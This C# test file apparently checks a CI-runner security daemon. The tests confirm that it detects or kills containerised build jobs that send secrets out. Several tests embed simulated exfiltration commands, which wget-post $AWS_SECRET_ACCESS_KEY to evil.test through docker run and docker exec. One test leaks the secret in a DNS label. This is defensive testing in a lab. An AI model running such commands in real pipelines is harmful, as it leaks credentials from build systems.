using System.Text.Json;
using BuildSentry.Testing.Docker;
using BuildSentry.Testing.Lab;
using static BuildSentry.EndToEnd.ScenarioTests;

namespace BuildSentry.EndToEnd;

/// <summary>
/// Jobs that run their work in containers, through a real dockerd (Debian's docker.io, one per class) whose containers
/// reach the lab through a bridge and NAT, as on a runner: the job's `docker run` and `docker exec`, a container job
/// carrying its own markers, and a benign container job. Containers resolve with the lab's resolver only.
/// </summary>
[Collection(LabCollection.Name)]
public sealed class DockerTests(NetworkLabFixture lab, DockerLabFixture docker) : IClassFixture<DockerLabFixture>
{
    private NetworkLab Lab => lab.Lab;

    private DockerLab Docker => docker.Docker;

    private DaemonSetup Setup(string mode) => new(mode) { ExtraConfiguration = $"docker:\n  socket: {Docker.SocketPath}" };

    /// <summary>A step that runs the attacker's upload in a container; the job's secret goes in through -e.</summary>
    private string DockerRunUpload(string path) =>
        $"{Docker.Run} --rm -e AWS_SECRET_ACCESS_KEY {DockerLab.Image} wget -q -O /dev/null --post-data \"$AWS_SECRET_ACCESS_KEY\" http://evil.test/{path}; echo wget=$?";

    [Fact]
    public async Task In_audit_mode_a_docker_run_from_a_step_is_alerted_for_the_job_with_the_containers_wget_and_evil_test()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(Setup("audit"));
        var before = Lab.BytesReceivedBy("evil.test");
        using var job = BuildJob.Start(Lab, DockerRunUpload("upload"));
        var result = await job.WaitAsync();

        Assert.Equal(0, result.ExitCode);
        Assert.Contains("wget=0", result.StandardOutput);
        var alert = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.connection" && Str(a, "job") == job.JobId);
        Assert.Contains("wget", Argv(alert));
        Assert.Equal("198.18.0.66", Str(alert, "dst"));
        Assert.Equal("80", Str(alert, "dport"));
        Assert.Contains("evil.test", Names(alert));
        Assert.True(Lab.BytesReceivedBy("evil.test") - before >= BuildJob.Secret.Length, "audit mode lets the upload through");

        var report = await ReportAsync(daemon, job);
        var container = Assert.Single(report.GetProperty("containers").EnumerateArray());
        Assert.Equal(DockerLab.Image, container.GetProperty("image").GetString());
        Assert.False(container.GetProperty("leftRunning").GetBoolean());
        Assert.True(container.GetProperty("processesJoined").GetInt32() >= 1);
    }

    [Fact]
    public async Task In_kill_mode_a_docker_run_from_a_step_kills_the_job_and_its_container_before_the_secret_leaves()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(Setup("kill"));
        var before = Lab.BytesReceivedBy("evil.test");
        using var job = BuildJob.Start(Lab, DockerRunUpload("upload") + "; echo build finished");
        var result = await job.WaitAsync();

        Assert.True(result.ExitCode == 137,
            $"exit {result.ExitCode}\n{result.StandardOutput}\n{result.StandardError}\n{string.Join("\n", daemon.AlertRecords())}\n{daemon.Output}");
        Assert.DoesNotContain("build finished", result.StandardOutput);
        // Killed at its DNS query for evil.test (through prevent mode's forwarder in the container's namespace) or at
        // its connect, whichever the container reached first.
        var alert = await daemon.WaitForAlertAsync(a => Str(a, "job") == job.JobId && Str(a, "action") == "killed");
        AssertByTheContainersWget(alert);
        Assert.Contains("evil.test", Names(alert));
        Assert.Equal(before, Lab.BytesReceivedBy("evil.test"));
        // The kill reached the container's processes: dockerd sees its container exit.
        var running = "";
        for (var i = 0; i < 50 && (running = (await Docker.CliAsync("ps", "-q")).StandardOutput.Trim()).Length > 0; i++)
        {
            await Task.Delay(100);
        }

        Assert.Equal("", running);
    }

    [Fact]
    public async Task In_kill_mode_a_containers_first_command_querying_an_unknown_name_is_killed_before_the_query_leaves()
    {
        // The query comes from the container's first program, before a forwarder could be listening in its new
        // namespace: that program waits, stopped, until one does.
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(Setup("kill"));
        var label = $"{BuildJob.Secret.ToLowerInvariant()}{Random.Shared.Next(100_000, 999_999)}";
        var before = Lab.BytesReceivedBy("evil.test");
        using var job = BuildJob.Start(Lab, $"{Docker.Run} --rm {DockerLab.Image} wget -q -O /dev/null http://{label}.evil.test/first; echo build finished");
        var result = await job.WaitAsync();

        Assert.True(result.ExitCode == 137,
            $"exit {result.ExitCode}\n{result.StandardOutput}\n{result.StandardError}\n{string.Join("\n", daemon.AlertRecords())}\n{daemon.Output}");
        Assert.DoesNotContain("build finished", result.StandardOutput);
        var alert = await daemon.WaitForAlertAsync(a => Str(a, "job") == job.JobId && Str(a, "action") == "killed");
        Assert.Contains(Names(alert), n => n.Contains(label, StringComparison.OrdinalIgnoreCase));
        Assert.Equal(before, Lab.BytesReceivedBy("evil.test"));
        Assert.DoesNotContain(Lab.DnsQueriesLogged(), q => q.Name.Contains(label, StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public async Task A_docker_exec_into_a_service_container_the_job_started_is_the_jobs_and_the_service_left_running_is_alerted()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(Setup("audit"));
        var service = $"svc-{Random.Shared.Next(100_000, 999_999)}";
        var before = Lab.BytesReceivedBy("evil.test");
        using var job = BuildJob.Start(Lab, $"""
            {Docker.Run} -d --name {service} {DockerLab.Image} sleep 120 > /dev/null
            {Docker.Docker} exec -e AWS_SECRET_ACCESS_KEY {service} wget -q -O /dev/null --post-data "$AWS_SECRET_ACCESS_KEY" http://evil.test/exec
            echo exec=$?
            """);
        try
        {
            var result = await job.WaitAsync();
            Assert.Contains("exec=0", result.StandardOutput);
            var alert = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.connection" && Str(a, "job") == job.JobId);
            Assert.Contains("wget", Argv(alert));
            Assert.Equal("198.18.0.66", Str(alert, "dst"));
            Assert.True(Lab.BytesReceivedBy("evil.test") - before >= BuildJob.Secret.Length);

            var left = await daemon.WaitForAlertAsync(a => Kind(a) == "container.left-running" && Str(a, "job") == job.JobId);
            Assert.Contains(service, Str(left, "reason"));
            var report = await ReportAsync(daemon, job);
            var container = Assert.Single(report.GetProperty("containers").EnumerateArray(), c => c.GetProperty("name").GetString() == service);
            Assert.True(container.GetProperty("leftRunning").GetBoolean());
        }
        finally
        {
            await Docker.CliAsync("rm", "-f", service);
        }
    }

    [Fact]
    public async Task Of_two_jobs_at_once_only_the_one_that_ran_docker_is_blamed()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(Setup("audit"));
        using var bystander = BuildJob.Start(Lab, "for i in 1 2 3 4 5 6; do curl -sf http://registry.test/ok > /dev/null; sleep 0.5; done; echo done");
        using var job = BuildJob.Start(Lab, DockerRunUpload("two-jobs"));
        await job.WaitAsync();
        var bystanderResult = await bystander.WaitAsync();

        Assert.Contains("done", bystanderResult.StandardOutput);
        var alert = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.connection" && Argv(a).Contains("wget"));
        Assert.Equal(job.JobId, Str(alert, "job"));
        await ReportAsync(daemon, bystander);
        Assert.DoesNotContain(daemon.AlertRecords(), a => Str(a, "job") == bystander.JobId
            && (Argv(a).Contains("wget") || Str(a, "dst") == "198.18.0.66" || Names(a).Contains("evil.test")));
    }

    [Fact]
    public async Task A_marked_container_job_in_its_own_namespaces_is_its_own_job_and_is_killed_in_kill_mode()
    {
        // The runner starts the container (GitLab's docker executor, a GitHub container: job): the job's markers are in
        // the container's environment, not in the process that ran docker. Its first step comes a moment after the
        // container starts, as a runner's steps do: the job is held from its placement (docs/operations.md).
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(Setup("kill"));
        var runId = Random.Shared.Next(100_000, 999_999).ToString(System.Globalization.CultureInfo.InvariantCulture);
        var before = Lab.BytesReceivedBy("evil.test");
        var result = await Docker.CliAsync("run", "--rm", "--network", DockerLab.Network, "--dns", NetworkLab.ResolverAddress.ToString(),
            "-e", "GITHUB_ACTIONS=true", "-e", $"GITHUB_RUN_ID={runId}", "-e", "GITHUB_RUN_ATTEMPT=1", "-e", "GITHUB_JOB=build",
            "-e", "GITHUB_REPOSITORY=acme/app", "-e", $"AWS_SECRET_ACCESS_KEY={BuildJob.Secret}", DockerLab.Image,
            "sh", "-c", "sleep 1; wget -q -O /dev/null http://registry.test/ok && echo allowed-ok; wget -q -O /dev/null --post-data \"$AWS_SECRET_ACCESS_KEY\" http://evil.test/marked; echo after");

        Assert.True(result.StandardOutput.Contains("allowed-ok", StringComparison.Ordinal),
            $"exit {result.ExitCode}\n{result.StandardOutput}\n{result.StandardError}\n{string.Join("\n", daemon.AlertRecords())}\n{daemon.Output}");
        Assert.DoesNotContain("after", result.StandardOutput);
        Assert.Equal(137, result.ExitCode);
        var alert = await daemon.WaitForAlertAsync(a => Str(a, "job") == $"github-{runId}-1-build" && Str(a, "action") == "killed");
        AssertByTheContainersWget(alert);
        Assert.Contains("evil.test", Names(alert));
        Assert.Equal(before, Lab.BytesReceivedBy("evil.test"));
    }

    [Fact]
    public async Task A_benign_container_job_in_kill_mode_raises_nothing_and_completes()
    {
        // Its first request at once: the container's first program waits for the forwarder in its namespace.
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(Setup("kill"));
        using var job = BuildJob.Start(Lab,
            $"{Docker.Run} --rm {DockerLab.Image} sh -c 'for i in 1 2 3; do wget -q -O /dev/null http://registry.test/ok || exit 1; done' && echo build finished");
        await AssertCleanAsync(daemon, job);
    }

    /// <summary>The container's wget, or dockerd: a query the container made before the forwarder listened in its
    /// namespace reached Docker's embedded resolver, which asks upstream from dockerd's socket in that namespace.</summary>
    private static void AssertByTheContainersWget(System.Text.Json.JsonElement alert) =>
        Assert.True(Argv(alert).Contains("wget") || (Kind(alert) == "egress.dns" && Str(alert, "exe") == "/usr/sbin/dockerd"), alert.ToString());

    [Fact]
    public async Task Where_Docker_is_absent_the_daemon_runs_and_says_so_in_status()
    {
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit") { ExtraConfiguration = "docker:\n  socket: /run/no-such-docker.sock" });
        var status = await daemon.CliAsync("status", "--json");

        var sensors = JsonDocument.Parse(status.StandardOutput).RootElement.GetProperty("sensors");
        Assert.Equal("absent: no socket at /run/no-such-docker.sock", sensors.GetProperty("docker").GetString());
    }
}
